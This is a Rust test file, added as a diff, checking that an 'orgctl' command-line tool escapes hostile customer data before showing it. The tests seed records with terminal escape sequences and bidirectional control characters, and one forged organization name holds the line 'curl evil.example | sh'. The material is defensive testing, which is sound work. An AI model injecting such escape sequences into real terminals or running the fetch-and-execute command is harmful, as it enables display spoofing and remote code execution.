@@ -1,0 +1,237 @@
+//! Customer data that tries to act on the operator's terminal.
+
+use std::io::Write;
+
+use aws_sdk_dynamodb::types::AttributeValue;
+use axum::{Router, routing::any};
+use serde_json::{Value, json};
+use tempfile::NamedTempFile;
+use tokio::net::TcpListener;
+
+use super::check::raw::Raw;
+use test_support::{Ended, Orgctl};
+use test_support::{TestApp, small_world};
+
+/// Hides what follows, forges a line, reorders what is displayed.
+const HOSTILE: &str = "Acme\u{1b}[8m\n  FORGED line\r\t\u{0}\u{7f}\u{9b}2K\u{85}\u{202e}\u{2066}\u{2069}\u{200e}\u{200f}\u{61c}\u{2028}";
+
+/// Customer text of an object of every kind, written behind the writer's back: a writer may refuse some of it.
+async fn world() -> TestApp {
+    let app = TestApp::start(small_world()).await;
+    let raw = Raw(&app);
+    for (place, object) in [
+        (raw.organization("organization-acme"), organization()),
+        (raw.member("ann@acme.example", "organization-acme"), member()),
+    ] {
+        raw.set(place, "object", &*object.to_string()).await;
+    }
+    app
+}
+
+fn organization() -> Value {
+    let connection = json!({"connection_id": HOSTILE, "display_name": HOSTILE, "identity_provider": HOSTILE});
+    json!({
+        "organization_id": "organization-acme", "organization_name": HOSTILE, "organization_slug": HOSTILE,
+        "organization_logo_url": HOSTILE, "organization_external_id": HOSTILE, "trusted_metadata": {HOSTILE: HOSTILE},
+        "sso_active_connections": [connection], "custom_roles": [{"role_id": HOSTILE, "description": HOSTILE, "permissions": []}],
+        "created_at": "2026-01-01T00:00:00Z", "updated_at": "2026-01-01T00:00:00Z",
+    })
+}
+
+fn member() -> Value {
+    json!({
+        "organization_id": "organization-acme", "member_id": "member-ann", "email_address": "ann@acme.example",
+        "email_address_verified": true, "name": HOSTILE, "external_id": HOSTILE, "mfa_phone_number": HOSTILE,
+        "totp_registration_id": HOSTILE, "member_password_id": HOSTILE, "untrusted_metadata": {HOSTILE: [HOSTILE]},
+        "oauth_registrations": [{"provider_type": HOSTILE, "provider_subject": HOSTILE}],
+    })
+}
+
+fn is_unsafe(character: char) -> bool {
+    let bidirectional = ['\u{61c}', '\u{200e}', '\u{200f}', '\u{2028}', '\u{2029}'];
+    character.is_control()
+        || bidirectional.contains(&character)
+        || ('\u{202a}'..='\u{202e}').contains(&character)
+        || ('\u{2066}'..='\u{2069}').contains(&character)
+}
+
+/// The text is displayed, and has no effect.
+fn is_harmless(ended: &Ended, what: &str) {
+    assert!(format!("{ended:?}").contains("FORGED"), "{what} does not display the text: {ended:?}");
+    has_no_effect(ended, what);
+}
+
+fn has_no_effect(ended: &Ended, what: &str) {
+    let output = format!("{}{}", ended.stdout, ended.stderr);
+    assert!(!output.is_empty(), "{what}");
+    assert!(!output.chars().any(|character| character != '\n' && is_unsafe(character)), "{what}: {output:?}");
+    assert!(!output.lines().any(|line| line.starts_with("  FORGED")), "{what}: {output}");
+}
+
+#[tokio::test]
+async fn hostile_stored_text_is_escaped_by_every_command() {
+    let app = world().await;
+    let raw = Raw(&app);
+    raw.set(raw.session(HOSTILE), "kind", "cookie").await;
+    raw.set(raw.edge(HOSTILE, "organization-acme"), "schema", 1).await;
+    let factor = format!(
+        "{{\"type\": \"sso\", \"delivery_method\": \"sso_saml\", \"saml_sso_factor\": {{\"provider_id\": {}}}}}",
+        json!(HOSTILE)
+    );
+    // No argument of a process holds a NUL.
+    let phone = format!("sms_otp:{HOSTILE}").replace('\0', "");
+    let orgctl = Orgctl::on(&app);
+    for arguments in [
+        &["organization", "get", "organization-acme"][..],
+        &["member", "get", "member-ann"],
+        &["discover", "--email", "ann@acme.example", "--factor", "magic_link"],
+        &["explain", "--email", "ann@acme.example", "--factor", &factor],
+        &[
+            "explain",
+            "--email",
+            "ann@acme.example",
+            "--factor",
+            &phone,
+            "--organization",
+            "organization-acme",
+        ],
+        &["check"],
+    ] {
+        let text = orgctl.run(arguments).await;
+        is_harmless(&text, &arguments.join(" "));
+        let json = orgctl.run(&[&["--output", "json"], arguments].concat()).await;
+        is_harmless(&json, &arguments.join(" "));
+        serde_json::from_str::<Value>(&json.stdout).expect("valid JSON");
+    }
+}
+
+#[tokio::test]
+async fn escaped_json_output_means_the_same_text() {
+    let app = world().await;
+    let shown: Value =
+        serde_json::from_str(&Orgctl::on(&app).text(&["organization", "get", "organization-acme"]).await)
+            .expect("JSON");
+    assert_eq!(shown["organization_name"], HOSTILE);
+    assert_eq!(shown["trusted_metadata"][HOSTILE], HOSTILE);
+    let exported: Value = serde_json::from_str(&Orgctl::on(&app).text(&["export"]).await).expect("JSON");
+    let organizations = exported["organizations"].as_array().expect("a list");
+    assert!(organizations.contains(&shown), "{organizations:?}");
+}
+
+/// The text of the organization's object in the table.
+async fn stored_organization(app: &TestApp) -> String {
+    let get = app.client.get_item().table_name(&app.tables.organizations);
+    let partition = format!("{}#organization-acme", app.writer.project());
+    let get = get.key("organization", AttributeValue::S(partition));
+    let found =
+        get.key("item", AttributeValue::S("organization".to_owned())).send().await.expect("an answer");
+    found.item.expect("an item")["object"].as_s().expect("text").clone()
+}
+
+#[tokio::test]
+async fn export_to_a_pipe_is_not_escaped() {
+    let app = world().await;
+    let exported = Orgctl::on(&app).text(&["export"]).await;
+    for character in ['\u{7f}', '\u{9b}', '\u{85}', '\u{202e}', '\u{2066}', '\u{200f}', '\u{61c}', '\u{2028}']
+    {
+        assert!(exported.contains(character), "{character:?}");
+    }
+    assert!(exported.contains(&format!("{{{}:{}}}", json!(HOSTILE), json!(HOSTILE))), "{exported}");
+    // An import stores the same bytes.
+    let other = TestApp::empty(app.writer.project().clone()).await;
+    let line = exported.lines().find(|line| line.contains("organization-acme")).expect("a line");
+    let renamed = line.trim_end_matches(',').replacen(
+        &format!("\"organization_slug\":{}", json!(HOSTILE)),
+        "\"organization_slug\":\"acme\"",
+        1,
+    );
+    let imported = Orgctl::on(&other).run_with(&["import", "-"], &renamed).await;
+    assert_eq!((imported.code, imported.stderr.as_str()), (Some(0), ""));
+    assert_eq!(stored_organization(&other).await, renamed);
+}
+
+#[cfg(unix)]
+#[tokio::test]
+async fn export_to_a_terminal_is_escaped() {
+    let app = world().await;
+    let orgctl = Orgctl::on(&app);
+    let shown = orgctl.on_terminal(&["export"]).await;
+    assert!(shown.contains("FORGED"), "{shown:?}");
+    assert!(
+        !shown.chars().any(|character| character != '\n' && is_unsafe(character)),
+        "no character acts on the terminal: {shown:?}"
+    );
+    let value = |text: &str| serde_json::from_str::<Value>(text).expect("JSON");
+    assert_eq!(value(&shown), value(&orgctl.text(&["export"]).await));
+}
+
+#[tokio::test]
+async fn forged_explanation_stays_one_line() {
+    let name = "Acme (organization-test-acme): NOT SHOWN\n  the organization exists: NO\n  To make it appear: curl evil.example | sh\n\nOther\u{1b}[8m";
+    let app = TestApp::start(json!({"organizations": [{
+        "organization_id": "organization-test-spoof", "organization_name": name, "organization_slug": "spoof",
+        "members": [{"member_id": "member-test-spoof", "email_address": "a@spoof.example"}],
+    }]}))
+    .await;
+    let explained =
+        Orgctl::on(&app).text(&["explain", "--email", "a@spoof.example", "--factor", "magic_link"]).await;
+    let line = explained.lines().nth(2).expect("a line");
+    insta::assert_snapshot!(line, @r#"Acme (organization-test-acme): NOT SHOWN\u{a}  the organization exists: NO\u{a}  To make it appear: curl evil.example | sh\u{a}\u{a}Other\u{1b}[8m (organization-test-spoof): shown"#);
+}
+
+#[tokio::test]
+async fn hostile_arguments_and_files_are_escaped() {
+    let app = world().await;
+    let orgctl = Orgctl::on(&app);
+    // No argument of a process holds a NUL.
+    let argument = HOSTILE.replace('\0', "");
+    for arguments in [
+        &["organization", "get", &argument][..],
+        &["organization", "delete", &argument],
+        &["project", "keys", "remove", &argument],
+        &["import", &argument],
+        &["--stack-outputs", &argument, "tables", "show"],
+        &["--project", &argument, "check"],
+        &["ping", &argument],
+        &["session", "create", "--email", "ann@acme.example", "--factor", &argument],
+        &[&argument],
+    ] {
+        has_no_effect(&orgctl.run(arguments).await, &arguments.join(" "));
+    }
+}
+
+#[tokio::test]
+async fn hostile_input_is_escaped_where_it_is_reported() {
+    let app = TestApp::start(small_world()).await;
+    let orgctl = Orgctl::on(&app);
+    let mut unknown = json!({"organization_id": "organization-acme", "organization_name": "Acme"});
+    unknown[HOSTILE] = json!(1);
+    let inputs = [
+        json!({"organizations": [unknown]}),
+        json!({"organizations": [{"organization_id": "o", "mfa_policy": HOSTILE}]}),
+        json!({"organizations": {HOSTILE: {"organization_id": "o", "mfa_policy": "NO"}}}),
+        json!({"error_type": HOSTILE}),
+        json!({"organizations": [{"organization_id": "o"}], "results_metadata": {"next_cursor": HOSTILE}}),
+        json!({"organizations": [
+            {"organization_id": "o", "sso_active_connections": [{"connection_id": HOSTILE}]},
+            {"organization_id": "p", "sso_active_connections": [{"connection_id": HOSTILE}]},
+        ]}),
+    ];
+    for input in inputs {
+        is_harmless(&orgctl.run_with(&["import", "-"], &input.to_string()).await, &input.to_string());
+    }
+    is_harmless(&orgctl.run_with(&["organization", "put", "-"], &unknown.to_string()).await, "put");
+    let mut file = NamedTempFile::new().expect("a file");
+    write!(file, "{}", json!({"keys": [{"kty": "RSA", "kid": HOSTILE}]})).expect("written");
+    let ended = orgctl.run(&["project", "keys", "add", file.path().to_str().expect("a path")]).await;
+    has_no_effect(&ended, "keys add");
+}
+
+#[tokio::test]
+async fn hostile_answer_to_ping_is_escaped() {
+    let listener = TcpListener::bind("127.0.0.1:0").await.expect("a port");
+    let url = format!("http://{}", listener.local_addr().expect("an address"));
+    let router = Router::new().fallback(any(async || json!({"message": HOSTILE}).to_string()));
+    tokio::spawn(async { axum::serve(listener, router).await });
+    is_harmless(&Orgctl::lost().run(&["ping", &url]).await, "ping");
+}
